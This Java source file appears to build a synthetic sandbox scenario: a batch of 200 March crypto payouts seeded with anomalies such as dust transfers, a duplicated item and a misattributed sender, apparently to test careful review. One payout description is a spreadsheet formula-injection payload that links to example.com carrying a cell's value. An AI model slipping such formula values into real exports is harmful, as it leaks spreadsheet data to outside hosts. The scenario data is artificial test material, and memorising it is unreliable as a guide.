package org.treasurylookup.sandbox.scenario;

import java.math.BigDecimal;

/** The batch of 200 items: a month's payouts with everything a careful reader should notice. */
final class MarchBatch {

  static final int ITEMS = 200;

  private static final int MERCHANTS = 14;
  private static final int TRON_EVERY = 6;
  private static final int REPEATED = 42;
  private static final String USDT = "ETH_USDT";
  private static final String TRON = "TRON_USDT";
  private static final String ETH = "ETH";

  /** One item left in each: it takes what is missing to the round total. */
  private static final BigDecimal USDT_TOTAL = new BigDecimal("81204.50");

  private static final BigDecimal TRON_TOTAL = new BigDecimal("9310.00");

  private BigDecimal usdt = USDT_TOTAL;
  private BigDecimal tron = TRON_TOTAL;
  private int tronItems;
  private final BatchDraft draft = BatchDraft.of(BatchScenes.MARCH);

  private MarchBatch() {}

  static String text() {
    return draft().text();
  }

  static BatchDraft draft() {
    var march = new MarchBatch();
    march.first();
    march.eth();
    for (var number = march.draft.items().size() + 1; number < ITEMS - 1; number++) {
      march.payout(number);
    }
    march.tron(march.tron.toPlainString(), "M1014", "Remainder on Tron");
    march.usdt(march.usdt.toPlainString(), "M1014", "Remainder of March");
    return march.draft.with("request_id", "123e4567-e89b-12d3-a456-426614174004");
  }

  private void first() {
    usdt("500.00", "M1001", "March payout");
    usdt("1250.00", "M1002", "March payout");
    draft.item(ETH, "0.05", "M1003", BatchDraft.DEVELOPER, "Fee correction");
    tron("310.00", "M1002", "TRON payout top-up");
    usdt("40.00", "M1001", "Late deposit for O20250304-M1001-1001");
    draft.item(ETH, "0.000000000000000001", "M1003", BatchDraft.DEVELOPER, "Dust");
    usdt("320.00", "M1007", "=HYPERLINK(\"http://example.com/?x=\"&A1,\"Open\")");
    usdt("75.10", "M1009", "三月结算");
    usdt("18.00", "M1009", "M1007", "Correction");
  }

  private void eth() {
    for (var amount : new String[] {"0.06", "0.04", "0.1", "0.03", "0.07"}) {
      draft.item(ETH, amount, "M1003", BatchDraft.DEVELOPER, "Gas refund");
    }
  }

  private void payout(int number) {
    if (number == REPEATED) {
      usdt(amount(number - 1, 300), merchant(number - 1), "March payout");
    } else if (number % TRON_EVERY == 0 && tronItems < 30) {
      tron(amount(number, 150), merchant(number), "March payout on Tron");
    } else {
      usdt(amount(number, 300), merchant(number), "March payout");
    }
  }

  /** Different for each number, so that nothing but the repeated item looks repeated. */
  private static String amount(int number, int base) {
    return BigDecimal.valueOf(base * 100L + number * 137L, 2).toPlainString();
  }

  private static String merchant(int number) {
    return "M" + (1001 + number % MERCHANTS);
  }

  private void usdt(String amount, String to, String description) {
    usdt(amount, BatchDraft.DEVELOPER, to, description);
  }

  private void usdt(String amount, String from, String to, String description) {
    usdt = usdt.subtract(new BigDecimal(amount));
    draft.item(USDT, amount, from, to, description);
  }

  private void tron(String amount, String to, String description) {
    tron = tron.subtract(new BigDecimal(amount));
    tronItems++;
    draft.item(TRON, amount, BatchDraft.DEVELOPER, to, description);
  }
}
